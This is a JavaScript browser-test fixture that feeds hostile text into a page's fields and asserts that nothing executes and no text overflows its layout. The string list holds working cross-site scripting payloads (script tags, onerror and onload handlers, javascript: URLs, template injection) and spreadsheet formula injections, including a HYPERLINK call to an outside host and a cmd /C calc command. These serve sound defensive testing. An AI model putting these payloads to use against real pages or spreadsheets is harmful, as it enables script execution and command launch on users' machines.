// What an attacker writes into a text field, and how a page must stand it.
import assert from 'node:assert/strict'

export const strings = [
  '<script>window.__xss=1;alert(1)</script>',
  '"><img src=x onerror="window.__xss=1;alert(1)">',
  "'><svg/onload=window.__xss=1>",
  'javascript:window.__xss=1//',
  '${window.__xss=1}{{constructor.constructor("window.__xss=1")()}}<%= 1 %>',
  '=HYPERLINK("http://x.example/"&A1,"点击")',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\u202E司公限有正反\u202C\u2066\u2067',
  '👩‍👩‍👧‍👦🏳️‍🌈 e\u0301\u0301\u0301\u0301',
  '𠮷野家𡈽𠀋生僻字店',
  '超'.repeat(57) + '尾',
  'W'.repeat(58),
  'a\u0000b\u0007c'.replaceAll('\u0000', '') + '\u200B\uFEFF零宽',
  '<iframe srcdoc="<script>parent.__xss=1</script>">',
  '&lt;b&gt;&#x3C;i&#x3E;',
]

/** A page as it stands: nothing ran, nothing sticks out at the side. */
export async function sound(page, where) {
  assert.equal(await page.evaluate(() => window.__xss), undefined, where)
  assert.equal(await page.evaluate(() => document.querySelectorAll('body script:not([src]), body iframe, img[src=x], svg[onload]').length), 0, where)
  const wide = await page.evaluate(() => {
    const main = document.querySelector('#page')
    return [document.documentElement.scrollWidth - innerWidth, main ? main.scrollWidth - main.clientWidth : 0]
  })
  const beyond = wide[0] > 0 ? await page.evaluate(() => [...document.querySelectorAll('body *')].filter((e) => e.getBoundingClientRect().right > innerWidth + 1).slice(-3).map((e) => `${e.tagName}.${e.className} ${e.textContent.slice(0, 40)}`)) : []
  assert.ok(wide[0] <= 0 && wide[1] <= 1, `${where} is ${wide} px too wide: ${beyond.join(' | ')}`)
  const out = await page.evaluate(() => [...document.querySelectorAll('.phead button, .card > header *, .dossier *')].filter((e) => e.getBoundingClientRect().right > innerWidth + 1).map((e) => e.textContent))
  assert.deepEqual(out, [], `${where}: beyond the edge of the screen`)
  let over = await beyondCards(page)
  for (let i = 0; over.length && i < 20; i++) { // text that is cut to its room is measured first
    await page.waitForTimeout(100)
    over = await beyondCards(page)
  }
  assert.deepEqual(over, [], `${where}: text beyond its card`)
}

const beyondCards = (page) => page.evaluate(() => [...document.querySelectorAll('.card, .card section, .card > div')].filter((e) => e.clientWidth > 0 && e.scrollWidth > e.clientWidth + 1 && getComputedStyle(e).overflowX === 'visible').map((e) => `${e.className}: ${e.scrollWidth - e.clientWidth} px ${e.textContent.slice(0, 60)}`))
